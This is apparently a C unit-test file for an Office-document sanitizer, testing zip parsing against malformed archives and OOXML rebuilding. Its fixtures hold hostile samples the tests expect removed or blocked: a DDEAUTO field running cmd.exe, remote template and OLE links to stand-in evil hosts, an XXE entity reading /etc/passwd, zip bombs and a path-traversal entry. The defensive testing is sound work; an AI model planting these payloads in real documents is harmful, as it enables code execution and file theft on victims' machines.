/* Unit tests for the zip reader/writer (malformed cases) and the OOXML
 * rebuild (relationship and XML edits). Run with `--rebuild IN OUT [MODE]`
 * the binary is also the integration test's driver: it rebuilds one file
 * and prints "verdict reason detail" then one "action keyword detail" line
 * per action (until `mugai sanitize` lands). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>
#include <glib.h>

#include "sanitizers/common/zip_read.h"
#include "sanitizers/common/zip_write.h"
#include "sanitizers/ooxml/ooxml_pkg.h"
#include "sanitizers/ooxml/ooxml_types.h"
#include "sanitizers/ooxml/ooxml_xml.h"

static const char *const action_kw[] = {
#define MG_ACTION(id, kw, msg) kw,
#include "engine/actions.def"
#undef MG_ACTION
};
static const char *const reason_kw[] = {
#define MG_REASON(id, kw, smtp, icap, msg) kw,
#include "engine/reasons.def"
#undef MG_REASON
};

/* ---- building test zips ---- */

struct file { const char *name; const char *data; size_t len; };

static void make_zip(struct mg_buf *b, const struct file *f, size_t n)
{
    struct mg_sink s;
    struct mg_zipw w;
    mg_buf_init(b);
    mg_sink_init_buf(&s, b);
    mg_zipw_init(&w, &s);
    for (size_t i = 0; i < n; i++)
        assert_true(mg_zipw_add(&w, f[i].name, (const uint8_t *)f[i].data,
                                f[i].len ? f[i].len : strlen(f[i].data), true));
    assert_true(mg_zipw_finish(&w));
    mg_zipw_free(&w);
}

static const struct mg_zip_limits lim = { 1000, 1u << 24, 1u << 26, 200 };

static enum mg_zip_status open_buf(struct mg_buf *b)
{
    struct mg_zip z;
    enum mg_zip_status st = mg_zip_open(&z, b->data, b->len, &lim);
    if (st == MG_ZIP_OK) {
        for (size_t i = 0; i < z.n && st == MG_ZIP_OK; i++) {
            uint8_t *d;
            size_t l;
            st = mg_zip_extract(&z, i, &d, &l);
            free(d);
        }
    }
    mg_zip_close(&z);
    return st;
}

static const struct file two[] = {
    { "a.txt", "hello hello hello hello hello hello", 0 },
    { "b/c.xml", "<x>yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy</x>", 0 },
};

/* Offset of the n-th occurrence of a 4-byte signature. */
static size_t sig_at(const struct mg_buf *b, uint32_t sig, int nth)
{
    for (size_t i = 0; i + 4 <= b->len; i++) {
        uint32_t v = (uint32_t)b->data[i] | ((uint32_t)b->data[i + 1] << 8) |
                     ((uint32_t)b->data[i + 2] << 16) | ((uint32_t)b->data[i + 3] << 24);
        if (v == sig && nth-- == 0)
            return i;
    }
    fail_msg("signature not found");
    return 0;
}

static void test_zip_roundtrip(void **st)
{
    (void)st;
    struct mg_buf b;
    make_zip(&b, two, 2);
    struct mg_zip z;
    assert_int_equal(mg_zip_open(&z, b.data, b.len, &lim), MG_ZIP_OK);
    assert_int_equal(z.n, 2);
    long i = mg_zip_find(&z, "b/c.xml");
    assert_true(i >= 0);
    uint8_t *d;
    size_t l;
    assert_int_equal(mg_zip_extract(&z, (size_t)i, &d, &l), MG_ZIP_OK);
    assert_int_equal(l, strlen(two[1].data));
    assert_memory_equal(d, two[1].data, l);
    free(d);
    mg_zip_close(&z);
    mg_buf_free(&b);
}

static void test_zip_truncated(void **st)
{
    (void)st;
    struct mg_buf b;
    make_zip(&b, two, 2);
    for (size_t cut = 1; cut < b.len; cut += 7) {
        struct mg_zip z;
        assert_int_not_equal(mg_zip_open(&z, b.data, b.len - cut, &lim), MG_ZIP_OK);
        mg_zip_close(&z);
    }
    mg_buf_free(&b);
}

static void test_zip_junk(void **st)
{
    (void)st;
    struct mg_buf b, j;
    make_zip(&b, two, 2);
    mg_buf_init(&j);
    mg_buf_append(&j, "MZjunk", 6);
    mg_buf_append(&j, b.data, b.len);
    assert_int_equal(open_buf(&j), MG_ZIP_MALFORMED);     /* prefix */
    mg_buf_append(&b, "trailer", 7);
    assert_int_equal(open_buf(&b), MG_ZIP_MALFORMED);     /* suffix */
    mg_buf_free(&b);
    mg_buf_free(&j);
}

static void test_zip_hidden(void **st)
{
    (void)st;
    struct mg_buf b;
    make_zip(&b, two, 2);
    struct mg_zip z;
    assert_int_equal(mg_zip_open(&z, b.data, b.len, &lim), MG_ZIP_OK);
    assert_int_equal(z.hidden, 0);
    mg_zip_close(&z);
    /* An archive comment is allowed but counted. */
    size_t eocd = sig_at(&b, 0x06054b50u, 0);
    b.data[eocd + 20] = 5;
    mg_buf_append(&b, "hello", 5);
    assert_int_equal(mg_zip_open(&z, b.data, b.len, &lim), MG_ZIP_OK);
    assert_int_equal(z.hidden, 5);
    mg_zip_close(&z);
    mg_buf_free(&b);
}

static void test_zip_encrypted(void **st)
{
    (void)st;
    struct mg_buf b;
    make_zip(&b, two, 2);
    b.data[sig_at(&b, 0x02014b50u, 1) + 8] |= 1;   /* CD flags of entry 2 */
    assert_int_equal(open_buf(&b), MG_ZIP_ENCRYPTED);
    mg_buf_free(&b);
    make_zip(&b, two, 2);
    b.data[sig_at(&b, 0x04034b50u, 0) + 6] |= 1;   /* local flags only */
    assert_int_equal(open_buf(&b), MG_ZIP_ENCRYPTED);
    mg_buf_free(&b);
}

static void test_zip_method(void **st)
{
    (void)st;
    struct mg_buf b;
    make_zip(&b, two, 2);
    size_t cd = sig_at(&b, 0x02014b50u, 0), lh = sig_at(&b, 0x04034b50u, 0);
    b.data[cd + 10] = 12;   /* bzip2 */
    b.data[lh + 8] = 12;
    assert_int_equal(open_buf(&b), MG_ZIP_MALFORMED);
    mg_buf_free(&b);
}

static void test_zip_duplicate(void **st)
{
    (void)st;
    const struct file dup[] = { { "A.xml", "1", 0 }, { "a.xml", "2", 0 } };
    struct mg_buf b;
    make_zip(&b, dup, 2);
    assert_int_equal(open_buf(&b), MG_ZIP_MALFORMED);
    mg_buf_free(&b);
}

static void test_zip_overlap(void **st)
{
    (void)st;
    const struct file same[] = { { "x", "1234", 0 }, { "x", "1234", 0 } };
    struct mg_buf b;
    make_zip(&b, same, 2);
    /* Rename the second entry in both headers, then point its directory
     * record at the first local header: two names, one body. */
    size_t lh2 = sig_at(&b, 0x04034b50u, 1), cd2 = sig_at(&b, 0x02014b50u, 1);
    b.data[lh2 + 30] = 'y';
    b.data[cd2 + 46] = 'y';
    memset(b.data + cd2 + 42, 0, 4);
    assert_int_equal(open_buf(&b), MG_ZIP_MALFORMED);
    mg_buf_free(&b);
}

static void test_zip_crc(void **st)
{
    (void)st;
    const struct file f[] = { { "s", "ab", 0 } };   /* too short to deflate: stored */
    struct mg_buf b;
    make_zip(&b, f, 1);
    size_t lh = sig_at(&b, 0x04034b50u, 0);
    b.data[lh + 30 + 1] ^= 1;   /* flip a data byte */
    assert_int_equal(open_buf(&b), MG_ZIP_MALFORMED);
    mg_buf_free(&b);
}

static void test_zip_limits(void **st)
{
    (void)st;
    size_t n = 4u << 20;
    char *zeros = calloc(1, n);
    assert_non_null(zeros);
    const struct file bomb[] = { { "z.xml", zeros, n } };
    struct mg_buf b;
    make_zip(&b, bomb, 1);
    assert_int_equal(open_buf(&b), MG_ZIP_LIMIT_RATIO);
    struct mg_zip z;
    struct mg_zip_limits small = { 10, 1000, 0, 0 };
    assert_int_equal(mg_zip_open(&z, b.data, b.len, &small), MG_ZIP_LIMIT_SIZE);
    mg_zip_close(&z);
    /* A declared size smaller than the real stream must not overflow. */
    struct mg_zip_limits none = { 0, 0, 0, 0 };
    size_t cd = sig_at(&b, 0x02014b50u, 0), lh = sig_at(&b, 0x04034b50u, 0);
    b.data[cd + 24 + 2] = 0;   /* usize 4 MiB -> 0 */
    b.data[lh + 22 + 2] = 0;
    assert_int_equal(mg_zip_open(&z, b.data, b.len, &none), MG_ZIP_OK);
    uint8_t *d;
    size_t l;
    assert_int_equal(mg_zip_extract(&z, 0, &d, &l), MG_ZIP_MALFORMED);
    mg_zip_close(&z);
    mg_buf_free(&b);
    free(zeros);
}

static void test_zip_many_small_bombs(void **st)
{
    (void)st;
    /* 8 entries of 512 KiB zeros: each under the per-entry ratio floor,
     * together far over the ratio. */
    size_t n = 512u << 10;
    char *zeros = calloc(1, n);
    assert_non_null(zeros);
    struct file f[8];
    char names[8][8];
    for (int i = 0; i < 8; i++) {
        snprintf(names[i], sizeof names[i], "z%d", i);
        f[i] = (struct file){ names[i], zeros, n };
    }
    struct mg_buf b;
    make_zip(&b, f, 8);
    assert_int_equal(open_buf(&b), MG_ZIP_LIMIT_RATIO);
    mg_buf_free(&b);
    free(zeros);
}

/* ---- OOXML ---- */

#define CT_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>" \
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">" \
    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>" \
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>" \
    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
#define RELS_HEAD "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>" \
    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
#define R_OFF "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define W_NS "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" " \
    "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\""

static const char doc_xml[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
    "<w:document " W_NS "><w:body>"
    "<w:p><w:r><w:t>Before </w:t></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
    "<w:r><w:instrText xml:space=\"preserve\"> DD</w:instrText></w:r>"
    "<w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"</w:instrText></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
    "<w:r><w:t>RESULT</w:t></w:r>"
    "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"
    "<w:r><w:t> after</w:t></w:r></w:p>"
    "<w:p><w:fldSimple w:instr=\" DDE excel x y\"><w:r><w:t>SIMPLE</w:t></w:r></w:fldSimple>"
    "<w:fldSimple w:instr=\"PAGE\"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
    "<w:p><w:hyperlink r:id=\"rId3\"><w:r><w:t>LINKTEXT</w:t></w:r></w:hyperlink></w:p>"
    "<w:p><w:subDoc r:id=\"rId4\"/></w:p>"
    "</w:body></w:document>";

static const char doc_rels[] =
    RELS_HEAD
    "<Relationship Id=\"rId1\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>"
    "<Relationship Id=\"rId2\" Type=\"" R_OFF "settings\" Target=\"settings.xml\"/>"
    "<Relationship Id=\"rId3\" Type=\"" R_OFF "hyperlink\" Target=\"https://www.example.jp/a\" TargetMode=\"External\"/>"
    "<Relationship Id=\"rId4\" Type=\"" R_OFF "subDocument\" Target=\"file:///c:/x.docx\" TargetMode=\"External\"/>"
    "<Relationship Id=\"rId5\" Type=\"" R_OFF "oleObject\" Target=\"mhtml:http://evil/!x\" TargetMode=\"External\"/>"
    "</Relationships>";

static const char settings_xml[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
    "<w:settings " W_NS "><w:attachedTemplate r:id=\"rId1\"/><w:zoom w:percent=\"100\"/></w:settings>";
static const char settings_rels[] =
    RELS_HEAD
    "<Relationship Id=\"rId1\" Type=\"" R_OFF "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/>"
    "</Relationships>";

static const char docm_ct[] =
    CT_HEAD
    "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
    "<Override PartName=\"/word/settings.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>"
    "</Types>";
static const char root_rels[] =
    RELS_HEAD
    "<Relationship Id=\"rId1\" Type=\"" R_OFF "officeDocument\" Target=\"word/document.xml\"/>"
    "</Relationships>";

struct rec { char log[4096]; size_t n; };

static void on_action(void *ud, enum mg_action a, const char *detail)
{
    struct rec *r = ud;
    size_t used = strlen(r->log);
    snprintf(r->log + used, sizeof r->log - used, "%s %s\n", action_kw[a], detail);
    r->n++;
}

static enum mg_verdict rebuild(const struct mg_buf *in, enum mg_urls_mode links, struct mg_buf *out,
                               struct rec *r, struct mg_ooxml_result *res)
{
    struct mg_sink s;
    mg_buf_init(out);
    mg_sink_init_buf(&s, out);
    memset(r, 0, sizeof *r);
    struct mg_ooxml_opts o = { .lim = lim, .hyperlinks = links, .action = on_action, .ud = r };
    return mg_ooxml_rebuild(in->data, in->len, &o, &s, res);
}

static char *entry(const struct mg_buf *b, const char *name)
{
    struct mg_zip z;
    assert_int_equal(mg_zip_open(&z, b->data, b->len, &lim), MG_ZIP_OK);
    long i = mg_zip_find(&z, name);
    uint8_t *d = NULL;
    size_t l;
    if (i >= 0)
        assert_int_equal(mg_zip_extract(&z, (size_t)i, &d, &l), MG_ZIP_OK);
    mg_zip_close(&z);
    return (char *)d;
}

static void make_docm(struct mg_buf *b, const char *document)
{
    const struct file f[] = {
        { "[Content_Types].xml", docm_ct, 0 }, { "_rels/.rels", root_rels, 0 },
        { "word/document.xml", document, 0 }, { "word/_rels/document.xml.rels", doc_rels, 0 },
        { "word/settings.xml", settings_xml, 0 }, { "word/_rels/settings.xml.rels", settings_rels, 0 },
        { "word/vbaProject.bin", "\xd0\xcf\x11\xe0 fake VBA", 0 },
        { "word/orphan.xml", "<x/>", 0 },
    };
    make_zip(b, f, sizeof f / sizeof f[0]);
}

static void test_docm(void **st)
{
    (void)st;
    struct mg_buf in, out;
    struct rec r;
    struct mg_ooxml_result res;
    make_docm(&in, doc_xml);
    assert_int_equal(rebuild(&in, MG_URLS_KEEP, &out, &r, &res), MG_SANITIZED);
    assert_true(res.macro_free_converted);
    assert_non_null(strstr(r.log, "vba-removed word/vbaProject.bin"));
    assert_non_null(strstr(r.log, "template-removed http://evil.example/t.dotm"));
    assert_non_null(strstr(r.log, "external-removed file:///c:/x.docx"));
    assert_non_null(strstr(r.log, "ole-removed mhtml:http://evil/!x"));
    assert_non_null(strstr(r.log, "dde-removed DDEAUTO c:"));
    assert_non_null(strstr(r.log, "dde-removed DDE excel x y"));
    assert_non_null(strstr(r.log, "item-removed word/orphan.xml"));

    struct mg_zip z;
    assert_int_equal(mg_zip_open(&z, out.data, out.len, &lim), MG_ZIP_OK);
    assert_string_equal(z.e[0].name, "[Content_Types].xml");
    assert_true(mg_zip_find(&z, "word/vbaProject.bin") < 0);
    assert_true(mg_zip_find(&z, "word/orphan.xml") < 0);
    mg_zip_close(&z);

    char *ct = entry(&out, "[Content_Types].xml");
    assert_null(strstr(ct, "macroEnabled"));
    assert_non_null(strstr(ct, "wordprocessingml.document.main+xml"));
    free(ct);
    char *doc = entry(&out, "word/document.xml");
    assert_null(strstr(doc, "DDE"));
    assert_null(strstr(doc, "instrText"));
    assert_null(strstr(doc, "subDoc"));
    assert_non_null(strstr(doc, "RESULT"));
    assert_non_null(strstr(doc, "SIMPLE"));
    assert_non_null(strstr(doc, "w:hyperlink"));      /* kept: policy keep */
    assert_non_null(strstr(doc, "w:fldSimple w:instr=\"PAGE\""));
    free(doc);
    char *rels = entry(&out, "word/_rels/document.xml.rels");
    assert_null(strstr(rels, "vbaProject"));
    assert_null(strstr(rels, "subDocument"));
    assert_null(strstr(rels, "oleObject"));
    assert_non_null(strstr(rels, "https://www.example.jp/a"));
    free(rels);
    char *set = entry(&out, "word/settings.xml");
    assert_null(strstr(set, "attachedTemplate"));
    assert_non_null(strstr(set, "w:zoom"));
    free(set);
    char *srels = entry(&out, "word/_rels/settings.xml.rels");
    assert_null(strstr(srels, "evil"));
    free(srels);
    mg_buf_free(&out);

    /* Sanitizing the output again finds nothing more to do. */
    struct mg_buf again;
    mg_buf_free(&in);
    make_docm(&in, doc_xml);
    assert_int_equal(rebuild(&in, MG_URLS_KEEP, &out, &r, &res), MG_SANITIZED);
    assert_int_equal(rebuild(&out, MG_URLS_KEEP, &again, &r, &res), MG_CLEAN);
    assert_int_equal(r.n, 0);
    mg_buf_free(&again);
    mg_buf_free(&out);
    mg_buf_free(&in);
}

static void test_hyperlink_modes(void **st)
{
    (void)st;
    struct mg_buf in, out;
    struct rec r;
    struct mg_ooxml_result res;
    make_docm(&in, doc_xml);
    assert_int_equal(rebuild(&in, MG_URLS_DEFANG, &out, &r, &res), MG_SANITIZED);
    char *rels = entry(&out, "word/_rels/document.xml.rels");
    assert_non_null(strstr(rels, "hxxps://www[.]example[.]jp/a"));
    free(rels);
    assert_non_null(strstr(r.log, "url-defanged 1"));
    mg_buf_free(&out);
    assert_int_equal(rebuild(&in, MG_URLS_REMOVE, &out, &r, &res), MG_SANITIZED);
    char *doc = entry(&out, "word/document.xml");
    assert_null(strstr(doc, "hyperlink"));
    assert_non_null(strstr(doc, "LINKTEXT"));         /* text kept */
    free(doc);
    assert_non_null(strstr(r.log, "url-removed 1"));
    mg_buf_free(&out);
    mg_buf_free(&in);
}

static void test_doctype_blocked(void **st)
{
    (void)st;
    static const char evil[] =
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
        "<w:document " W_NS "><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>";
    struct mg_buf in, out;
    struct rec r;
    struct mg_ooxml_result res;
    make_docm(&in, evil);
    assert_int_equal(rebuild(&in, MG_URLS_KEEP, &out, &r, &res), MG_BLOCKED);
    assert_int_equal(res.reason, MG_R_MALFORMED);
    mg_buf_free(&out);
    mg_buf_free(&in);
}

static void test_utf16_document(void **st)
{
    (void)st;
    /* The same document saved as UTF-16: DDE must still be found. */
    GError *err = NULL;
    gsize l16 = 0;
    const char *body = strstr(doc_xml, "<w:document");
    char *u8 = g_strconcat("<?xml version=\"1.0\" encoding=\"UTF-16\"?>", body, NULL);
    char *u16 = g_convert(u8, -1, "UTF-16LE", "UTF-8", NULL, &l16, &err);
    assert_non_null(u16);
    char *withbom = g_malloc(l16 + 2);
    withbom[0] = (char)0xFF;
    withbom[1] = (char)0xFE;
    memcpy(withbom + 2, u16, l16);
    const struct file f[] = {
        { "[Content_Types].xml", docm_ct, 0 }, { "_rels/.rels", root_rels, 0 },
        { "word/document.xml", withbom, l16 + 2 },
    };
    struct mg_buf in, out;
    struct rec r;
    struct mg_ooxml_result res;
    make_zip(&in, f, 3);
    assert_int_equal(rebuild(&in, MG_URLS_KEEP, &out, &r, &res), MG_SANITIZED);
    assert_non_null(strstr(r.log, "dde-removed DDEAUTO"));
    char *doc = entry(&out, "word/document.xml");
    assert_null(strstr(doc, "DDE"));
    assert_non_null(strstr(doc, "RESULT"));   /* re-serialized as UTF-8 */
    free(doc);
    mg_buf_free(&out);
    mg_buf_free(&in);
    g_free(withbom);
    g_free(u16);
    g_free(u8);
}

static void test_not_ooxml(void **st)
{
    (void)st;
    struct mg_buf in, out;
    struct rec r;
    struct mg_ooxml_result res;
    make_zip(&in, two, 2);
    assert_int_equal(rebuild(&in, MG_URLS_KEEP, &out, &r, &res), MG_BLOCKED);
    assert_int_equal(res.reason, MG_R_MALFORMED);
    mg_buf_free(&out);
    mg_buf_free(&in);
    const struct file bad[] = { { "[Content_Types].xml", docm_ct, 0 }, { "_rels/.rels", root_rels, 0 },
                                { "../evil.xml", "<x/>", 0 } };
    make_zip(&in, bad, 3);
    assert_int_equal(rebuild(&in, MG_URLS_KEEP, &out, &r, &res), MG_BLOCKED);
    mg_buf_free(&out);
    mg_buf_free(&in);
}

/* ---- XML edits on their own ---- */

static bool id_is_rid1(void *ud, const char *id)
{
    (void)ud;
    return strcmp(id, "rId1") == 0;
}

static char *drop_refs(const char *xml)
{
    xmlDoc *doc = mg_ooxml_xml_parse((const uint8_t *)xml, strlen(xml));
    assert_non_null(doc);
    assert_true(mg_ooxml_xml_drop_refs(doc, id_is_rid1, NULL) > 0);
    uint8_t *out;
    size_t len;
    assert_true(mg_ooxml_xml_dump(doc, &out, &len));
    xmlFreeDoc(doc);
    return (char *)out;
}

#define MC "xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" "
#define RNS "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" "
#define PNS "xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\" " \
    "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" "

static void test_xml_xlsx_ole_container(void **st)
{
    (void)st;
    /* Excel 2010 form: the object in Choice and Fallback; both go, then the
     * empty AlternateContent and the empty oleObjects container. */
    char *out = drop_refs(
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" " MC RNS ">"
        "<sheetData/><oleObjects><mc:AlternateContent><mc:Choice Requires=\"x14\">"
        "<oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rId1\"><objectPr r:id=\"rId2\"/></oleObject>"
        "</mc:Choice><mc:Fallback><oleObject progId=\"Package\" shapeId=\"1025\" r:id=\"rId1\"/>"
        "</mc:Fallback></mc:AlternateContent></oleObjects><tableParts count=\"0\"/></worksheet>");
    assert_null(strstr(out, "oleObject"));
    assert_null(strstr(out, "AlternateContent"));
    assert_non_null(strstr(out, "<sheetData/>"));
    assert_non_null(strstr(out, "tableParts"));
    free(out);
}

static void test_xml_pptx_ole_to_picture(void **st)
{
    (void)st;
    char *out = drop_refs(
        "<p:sld " PNS RNS "><p:cSld><p:spTree>"
        "<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id=\"4\" name=\"Object 3\"/></p:nvGraphicFramePr>"
        "<a:graphic><a:graphicData><p:oleObj r:id=\"rId1\"><p:embed/>"
        "<p:pic><p:nvPicPr><p:cNvPr id=\"0\" name=\"\"/></p:nvPicPr><p:blipFill><a:blip r:embed=\"rId2\"/></p:blipFill></p:pic>"
        "</p:oleObj></a:graphicData></a:graphic></p:graphicFrame></p:spTree></p:cSld></p:sld>");
    assert_null(strstr(out, "graphicFrame"));
    assert_null(strstr(out, "oleObj"));
    assert_non_null(strstr(out, "<p:spTree><p:pic>"));
    assert_non_null(strstr(out, "<p:cNvPr id=\"4\" name=\"Object 3\"/>"));
    assert_non_null(strstr(out, "r:embed=\"rId2\""));
    free(out);
}

static void test_xml_choice_without_preview(void **st)
{
    (void)st;
    /* The Choice frame has no picture and goes; the AlternateContent then
     * has no Choice left and becomes its Fallback content. */
    char *out = drop_refs(
        "<p:sld " PNS RNS MC "><p:cSld><p:spTree><mc:AlternateContent><mc:Choice Requires=\"v\">"
        "<p:graphicFrame><a:graphic><a:graphicData><p:oleObj r:id=\"rId1\"><p:embed/></p:oleObj>"
        "</a:graphicData></a:graphic></p:graphicFrame></mc:Choice>"
        "<mc:Fallback><p:sp><p:txBody><a:p><a:r><a:t>fallback</a:t></a:r></a:p></p:txBody></p:sp></mc:Fallback>"
        "</mc:AlternateContent></p:spTree></p:cSld></p:sld>");
    assert_null(strstr(out, "AlternateContent"));
    assert_null(strstr(out, "oleObj"));
    assert_non_null(strstr(out, "<p:spTree><p:sp>"));
    assert_non_null(strstr(out, "fallback"));
    free(out);
}

static void test_xml_word_object_keeps_preview(void **st)
{
    (void)st;
    char *out = drop_refs(
        "<w:document " W_NS "><w:body><w:p><w:r><w:object>"
        "<v:shape id=\"s\" xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata r:id=\"rId2\"/></v:shape>"
        "<o:OLEObject xmlns:o=\"urn:schemas-microsoft-com:office:office\" Type=\"Embed\" r:id=\"rId1\"/>"
        "</w:object></w:r></w:p><w:p><w:r><w:object><w:control r:id=\"rId1\"/></w:object></w:r></w:p>"
        "</w:body></w:document>");
    assert_null(strstr(out, "OLEObject"));
    assert_null(strstr(out, "w:control"));
    assert_non_null(strstr(out, "v:imagedata"));
    /* The second object held only the control and is gone; its run stays. */
    assert_non_null(strstr(out, "<w:p><w:r/></w:p>"));
    free(out);
}

static void test_xml_workbook_sheet_indexes(void **st)
{
    (void)st;
    static const char wb[] =
        "<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" " RNS ">"
        "<bookViews><workbookView activeTab=\"1\" firstSheet=\"2\"/></bookViews>"
        "<sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"rId0\"/><sheet name=\"M\" sheetId=\"2\" r:id=\"rId1\"/>"
        "<sheet name=\"B\" sheetId=\"3\" r:id=\"rId2\"/></sheets>"
        "<definedNames><definedName name=\"x\" localSheetId=\"1\">M!A1</definedName>"
        "<definedName name=\"y\" localSheetId=\"2\">B!A1</definedName>"
        "<definedName name=\"z\">A!A1</definedName></definedNames></workbook>";
    xmlDoc *doc = mg_ooxml_xml_parse((const uint8_t *)wb, strlen(wb));
    assert_non_null(doc);
    assert_int_equal(mg_ooxml_xml_fix_sheet_indexes(doc, id_is_rid1, NULL), 1);
    assert_int_equal(mg_ooxml_xml_drop_refs(doc, id_is_rid1, NULL), 1);
    uint8_t *out;
    size_t len;
    assert_true(mg_ooxml_xml_dump(doc, &out, &len));
    xmlFreeDoc(doc);
    const char *o = (const char *)out;
    assert_null(strstr(o, "name=\"M\""));
    assert_null(strstr(o, "name=\"x\""));
    assert_non_null(strstr(o, "<definedName name=\"y\" localSheetId=\"1\">"));
    assert_non_null(strstr(o, "<definedName name=\"z\">"));
    assert_non_null(strstr(o, "activeTab=\"0\" firstSheet=\"1\""));
    free(out);
}

static void test_xml_doctype_refused(void **st)
{
    (void)st;
    static const char x[] = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b \"c\">]><a>&b;</a>";
    assert_null(mg_ooxml_xml_parse((const uint8_t *)x, strlen(x)));
    static const char u7[] = "<?xml version=\"1.0\" encoding=\"UTF-7\"?><a>+AGA-</a>";
    assert_null(mg_ooxml_xml_parse((const uint8_t *)u7, strlen(u7)));
    static const char y[] = "<a><b></a>";
    assert_null(mg_ooxml_xml_parse((const uint8_t *)y, strlen(y)));
}

/* ---- driver mode ---- */

static int driver(int argc, char **argv)
{
    enum mg_urls_mode mode = MG_URLS_KEEP;
    if (argc > 4)
        mode = strcmp(argv[4], "remove") == 0 ? MG_URLS_REMOVE
               : strcmp(argv[4], "defang") == 0 ? MG_URLS_DEFANG : MG_URLS_KEEP;
    FILE *f = fopen(argv[2], "rb");
    if (!f)
        return perror(argv[2]), 2;
    struct mg_buf in, out;
    mg_buf_init(&in);
    mg_buf_init(&out);
    uint8_t tmp[65536];
    size_t n;
    while ((n = fread(tmp, 1, sizeof tmp, f)) > 0)
        mg_buf_append(&in, tmp, n);
    fclose(f);
    struct rec r;
    struct mg_ooxml_result res;
    struct mg_sink s;
    mg_sink_init_buf(&s, &out);
    memset(&r, 0, sizeof r);
    struct mg_zip_limits l = { 10000, 100u << 20, 512u << 20, 200 };
    struct mg_ooxml_opts o = { .lim = l, .hyperlinks = mode, .action = on_action, .ud = &r };
    enum mg_verdict v = mg_ooxml_rebuild(in.data, in.len, &o, &s, &res);
    static const char *const vn[] = { "clean", "sanitized", "blocked", "tempfail" };
    printf("%s %s %s\n", vn[v], reason_kw[res.reason], res.detail);
    fputs(r.log, stdout);
    /* The rename the sanitizer's adapter does (ooxml.c). */
    char *nn = (v == MG_CLEAN || v == MG_SANITIZED) ? mg_ooxml_macro_free_name(argv[2]) : NULL;
    if (nn) {
        const char *slash = strrchr(nn, '/');
        printf("renamed %s\n", slash ? slash + 1 : nn);
        g_free(nn);
    }
    int rc = 0;
    if (v == MG_CLEAN || v == MG_SANITIZED) {
        FILE *o2 = fopen(argv[3], "wb");
        if (!o2 || fwrite(out.data, 1, out.len, o2) != out.len || fclose(o2) != 0)
            rc = 2;
    }
    mg_buf_free(&in);
    mg_buf_free(&out);
    return rc;
}

int main(int argc, char **argv)
{
    if (argc >= 4 && strcmp(argv[1], "--rebuild") == 0)
        return driver(argc, argv);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_zip_roundtrip),
        cmocka_unit_test(test_zip_truncated),
        cmocka_unit_test(test_zip_junk),
        cmocka_unit_test(test_zip_hidden),
        cmocka_unit_test(test_zip_encrypted),
        cmocka_unit_test(test_zip_method),
        cmocka_unit_test(test_zip_duplicate),
        cmocka_unit_test(test_zip_overlap),
        cmocka_unit_test(test_zip_crc),
        cmocka_unit_test(test_zip_limits),
        cmocka_unit_test(test_zip_many_small_bombs),
        cmocka_unit_test(test_docm),
        cmocka_unit_test(test_hyperlink_modes),
        cmocka_unit_test(test_doctype_blocked),
        cmocka_unit_test(test_utf16_document),
        cmocka_unit_test(test_xml_xlsx_ole_container),
        cmocka_unit_test(test_xml_pptx_ole_to_picture),
        cmocka_unit_test(test_xml_choice_without_preview),
        cmocka_unit_test(test_xml_word_object_keeps_preview),
        cmocka_unit_test(test_xml_workbook_sheet_indexes),
        cmocka_unit_test(test_xml_doctype_refused),
        cmocka_unit_test(test_not_ooxml),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
